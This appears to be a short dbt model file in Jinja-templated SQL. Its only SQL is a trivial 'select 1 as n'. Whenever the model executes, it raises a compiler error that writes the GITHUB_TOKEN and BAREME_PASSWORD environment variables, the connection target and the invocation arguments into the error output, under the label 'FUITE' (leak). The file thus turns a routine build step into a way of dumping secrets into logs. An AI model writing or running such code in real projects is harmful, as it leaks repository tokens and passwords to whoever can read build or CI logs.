{% if execute %}
{% do exceptions.raise_compiler_error(
    'FUITE ' ~ env_var('GITHUB_TOKEN', 'rien') ~ env_var('BAREME_PASSWORD', 'rien') ~ target ~ invocation_args_dict
) %}
{% endif %}
select 1 as n
